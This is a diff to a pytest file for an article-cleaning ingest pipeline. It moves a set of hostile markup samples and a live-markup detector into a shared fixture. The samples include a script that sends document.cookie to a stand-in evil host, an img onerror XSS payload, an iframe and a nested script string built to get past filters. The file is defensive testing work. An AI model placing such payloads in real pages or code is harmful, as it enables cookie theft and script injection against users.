@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import re
 from pathlib import Path
 
 import pytest
@@ -17,6 +16,7 @@ from ingest.cleaning import (
     remove_ad_markers,
     remove_invisible,
 )
+from tests.fixtures.hostile import HOSTILE, live_markup
 
 SAMPLE = Path("/work/shared/samples/ar-putin-pyongyang-visit.txt")
 
@@ -133,23 +133,6 @@ def test_sample_article() -> None:
     assert "remove_source_footer" in cleaned.rules_applied
 
 
-HOSTILE = {
-    "beacon": "![](https://tracker.example/p.gif?x=1)",
-    "img": "<img src=x onerror=alert(1)>",
-    "iframe": '<iframe src="https://evil.example/"></iframe>',
-    "script": "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
-}
-
-
-def _live(text: str) -> list[str]:
-    """The live markup left in ``text`` (what must never reach an API client)."""
-    lowered = text.lower()
-    found = [m for m in ("<script", "<iframe", "onerror=", "<img") if m in lowered]
-    if re.search(r"!\[[^\]]*\]\(", text):
-        found.append("markdown image")
-    return found
-
-
 @pytest.mark.parametrize("kind", sorted(HOSTILE))
 @pytest.mark.parametrize(
     "before, after",
@@ -160,7 +143,7 @@ def _live(text: str) -> list[str]:
 )
 def test_live_markup_is_removed_and_the_facts_kept(kind: str, before: str, after: str) -> None:
     cleaned = clean_text(f"{before}{HOSTILE[kind]}{after}").text
-    assert _live(cleaned) == [], cleaned
+    assert live_markup(cleaned) == [], cleaned
     assert cleaned == f"{before}{after}".replace("  ", " ").strip()
     assert "remove_markup" in clean_text(f"{before}{HOSTILE[kind]}{after}").rules_applied
 
@@ -175,6 +158,6 @@ def test_alt_text_and_link_text_stay() -> None:
 
 def test_escaped_markup_cannot_come_back_live_and_plain_text_is_untouched() -> None:
     sneaky = "&lt;script&gt;alert(1)&lt;/script&gt; <b>bold</b> <scr<script>x</script>ipt>go()</script>"
-    assert _live(clean_text(sneaky).text) == []
+    assert live_markup(clean_text(sneaky).text) == []
     plain = "AT&amp;T rose 3% as 3 < 5 and x > 2; see [1] and [a] (b)."
     assert clean_text(plain).text == plain and clean_text(plain).rules_applied == ()
